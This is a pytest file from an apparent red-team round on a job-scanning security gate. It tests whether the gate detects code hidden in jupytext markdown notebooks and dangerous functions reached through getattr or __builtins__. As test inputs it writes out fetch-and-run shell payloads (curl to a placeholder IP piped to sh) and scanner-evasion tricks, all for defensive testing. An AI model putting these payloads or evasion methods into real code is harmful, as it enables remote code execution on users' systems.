"""Red team 59b: markdown notebooks, code the gate collected as text (docs/redteam59b-attempts.md).

Hole closed (session 58's open item): with jupytext installed, Jupyter opens a `.md` (jupytext's Markdown, MyST),
`.Rmd` or `.qmd` file as a notebook and `jupytext --execute` runs it; the gate listed such a file as other text and
never read its code, so a job shipping one beside honest code was accepted with a `curl | sh` in a code block. A
markdown file whose front matter names `jupyter`, `jupytext` or `kernelspec` (or does not close within the bytes a
kind is told from) is now a notebook (collect.classify, notebooks.markdown_notebook), its fenced cells read as
jupytext reads them (notebooks._markdown_document): Python blocks and `{code-cell}`s as code, another Jupyter
language as its `%%language` cell, `{raw-cell}` as a raw cell.
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.engine.collect import HEAD_BYTES, classify
from analyzer.engine.notebooks import read_notebook
from analyzer.model import Decision
from conftest import run_cli

SAMPLES = kit.corpus_samples("jobs/redteam59b_*")
TWINS = kit.corpus_samples("jobs/near_redteam59b_*")
EXPECTED = {e["path"]: e["expect"] for e in kit.labelled("redteam59b_")}

MYST = ("---\njupytext:\n  text_representation:\n    format_name: myst\nkernelspec:\n  display_name: Python 3\n"
        "  language: python\n  name: python3\n---\n\n# Training\n\n")
JUPYTEXT_MD = "---\njupyter:\n  jupytext:\n    text_representation:\n      format_name: markdown\n---\n\n"
PAYLOAD = 'import os\nos.system("curl -s http://203.0.113.7/s | sh")'
CLIENT = "import torch\nnet = torch.nn.Linear(4, 2)\n"


def _job(tmp_path, name: str, text: str):
    """The report on a folder holding an honest client.py and the markdown file `name` (a lone text file is judged
    as if evaluated, detectors/text_code.py: beside code, main accepted these)."""
    return kit.scan_files(tmp_path, {"client.py": CLIENT, name: text})


def test_samples_are_labelled():
    assert set(SAMPLES) | set(TWINS) == set(EXPECTED)
    assert len(SAMPLES) == 11 and len(TWINS) == 5


@pytest.mark.parametrize("sample", SAMPLES)
def test_attack_is_held(sample):
    report = kit.scan_sample(sample)
    kit.assert_held(report)
    assert report.decision.value in EXPECTED[sample], kit.findings(report)


@pytest.mark.parametrize("sample", TWINS)
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


# ---- which files are notebooks -------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, head", [
    ("walkthrough.md", MYST),
    ("walkthrough.md", JUPYTEXT_MD),
    ("report.Rmd", "---\ntitle: x\njupyter:\n  kernelspec:\n    name: python3\n---\n"),
    ("summary.qmd", "---\ntitle: x\njupyter: python3\n---\n"),
    ("notes.myst", "\ufeff\n---\n'kernelspec':\n  name: python3\n---\n"),
    ("notes.md", "---\ntitle: x\n" + "changelog: padding\n" * 300),  # unclosed within the head: fail closed
])
def test_a_markdown_notebook_is_a_notebook(name, head):
    assert classify(name, head.encode()[:HEAD_BYTES]) == "notebook"


@pytest.mark.parametrize("name, head", [
    ("README.md", "---\ntags: [basic, vision]\ndataset: [CIFAR-10]\n---\n# Quickstart\n"),
    ("README.md", "# Quickstart\n\n```python\nimport os\n```\n"),
    ("notes.txt", MYST),
])
def test_other_markdown_stays_text(name, head):
    assert classify(name, head.encode()) == "other"


# ---- how the cells are read ----------------------------------------------------------------------------------------

def test_cells_are_read_at_their_positions():
    nb = read_notebook((MYST + "```{code-cell} ipython3\n:tags: [hide]\nx = 1\n```\n\nText.\n\n"
                        "```{code-cell} ipython3\n---\ntags: [a]\n---\ny = 2\n```\n").encode())
    assert nb.error is None and not nb.doubts
    assert [(c.index, c.source) for c in nb.cells] == [(2, "\nx = 1"), (4, "\n\n\ny = 2")]


@pytest.mark.parametrize("opening, closing, kind", [
    ("```bash", "```", "shell"), ("```sh", "```", "shell"), ("```R", "```", "unknown"),
    ("```javascript", "```", "unknown"), ("```html", "```", "unknown"), ("~~~{code-cell} ipython3", "~~~", "cells"),
    ("````python", "````", "cells"), ("```{python}", "```", "cells"), ("> ```{code-cell}", "> ```", "cells"),
    ("  ```python title=x", "  ```", "cells"),
])
def test_fenced_blocks_read_as_jupytext_makes_cells_of_them(opening, closing, kind):
    nb = read_notebook((JUPYTEXT_MD + f"{opening}\ncurl -s http://203.0.113.7/s\n{closing}\n").encode())
    assert getattr(nb, kind), (nb.cells, nb.shell, nb.unknown)


@pytest.mark.parametrize("fence", ["```text", "```console", "```json", "```", "```yaml"])
def test_blocks_of_no_jupyter_language_stay_text(fence):
    nb = read_notebook((JUPYTEXT_MD + f"{fence}\n$ curl -s http://203.0.113.7/s | sh\n```\n").encode())
    assert not nb.cells and not nb.shell and not nb.unknown and nb.error is None


def test_a_python_fence_inside_a_text_fence_is_read():
    # jupytext's reader ends the ````text block at the bare ``` line, and the ```python block is a code cell
    text = JUPYTEXT_MD + "````text\nout\n```\n```python\n" + PAYLOAD + "\n```\n````\n"
    assert any("os.system" in c.source for c in read_notebook(text.encode()).cells)


def test_another_kernel_language_is_a_doubt():
    text = "---\nkernelspec:\n  language: bash\n  name: bash\n---\n```{code-cell}\nx = 1\n```\n"
    assert read_notebook(text.encode()).doubts


def test_a_front_matter_that_is_not_yaml_is_an_error():
    assert "front matter is not YAML" in (read_notebook(b"---\njupytext: [\n---\n```python\nx = 1\n```\n").error or "")


# ---- the gate's decision -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, text, rule", [
    ("walkthrough.md", MYST + "```{code-cell} ipython3\n" + PAYLOAD + "\n```\n", "remote-code.fetch-and-run-command"),
    ("walkthrough.md", JUPYTEXT_MD + "```python\n!curl -s http://203.0.113.7/s | sh\n```\n",
     "files.notebook-shell-network"),
    ("report.Rmd", "---\njupyter:\n  kernelspec:\n    language: python\n---\n```{python}\n" + PAYLOAD + "\n```\n",
     "remote-code.fetch-and-run-command"),
    ("summary.qmd", "---\njupyter: python3\n---\n```{python}\n#| echo: false\n" + PAYLOAD + "\n```\n",
     "remote-code.fetch-and-run-command"),
])
def test_a_payload_in_a_markdown_notebook_rejects(tmp_path, name, text, rule):
    kit.assert_held(_job(tmp_path, name, text), rule=rule, decision=Decision.REJECT)


def test_the_finding_names_the_cell(tmp_path):
    report = _job(tmp_path, "walkthrough.md", MYST + "Intro.\n\n```{code-cell} ipython3\n" + PAYLOAD + "\n```\n")
    assert ("walkthrough.md[cell 2]", 2) in {(f.path, f.line) for f in report.findings
                                             if f.rule == "remote-code.fetch-and-run-command"}, kit.findings(report)


def test_a_readme_snippet_is_not_read(tmp_path):
    readme = "---\ntags: [basic]\n---\n# Quickstart\n\n```python\n" + PAYLOAD + "\n```\n"
    kit.assert_accepted(_job(tmp_path, "README.md", readme))


def test_the_cli_rejects_a_markdown_notebook_job(tmp_path):
    (tmp_path / "client.py").write_text(CLIENT)
    (tmp_path / "walkthrough.md").write_text(MYST + "```{code-cell} ipython3\n" + PAYLOAD + "\n```\n")
    out = run_cli("scan", "--format", "json", str(tmp_path))
    assert out.stdout, out.stderr
    assert json.loads(out.stdout)["reports"][0]["decision"] == "reject", out.stdout[-2000:]


# ---- dangerous functions reached by another road -------------------------------------------------------------------

CLIENT_API = "import functools\nimport os\nimport numpy as np\nimport torch\nimport nvflare.client as flare\n\nflare.init()\n"
SHELL = '"curl -s http://203.0.113.7/s | sh"'


@pytest.mark.parametrize("code, rule", [
    # getattr folded over literal names by functools.reduce (escalated on main: reduce reached nothing)
    (f'functools.reduce(getattr, ["system"], os)({SHELL})', "subprocess.shell"),
    (f'run = functools.reduce(getattr, ("path", "os", "system"), os)\nrun({SHELL})', "subprocess.shell"),
    (f'parts = "system"\nfunctools.reduce(getattr, [parts], os)({SHELL})', "subprocess.shell"),
    # a module's __builtins__ is the builtins dict (escalated on main)
    (f'np.__builtins__["exec"]("import os; os.system(" + repr({SHELL}) + ")")', "dynamic-code.eval-exec"),
    (f'ex = torch.__builtins__.get("eval")\nex("__import__(\'os\').system(" + repr({SHELL}) + ")")',
     "dynamic-code.eval-exec"),
])
def test_a_dangerous_function_reached_by_name_rejects(tmp_path, code, rule):
    kit.assert_held(kit.scan_source(tmp_path, CLIENT_API + code + "\n"), rule=rule, decision=Decision.REJECT)


@pytest.mark.parametrize("code", [
    'size = functools.reduce(lambda a, b: a * b, [2, 3, 4], 1)\nprint(size)',
    'print(functools.reduce(max, [3, 1, 2]), np.zeros(2))',
])
def test_the_honest_twins_stay_accepted(tmp_path, code):
    kit.assert_accepted(kit.scan_source(tmp_path, CLIENT_API + code + "\n"))
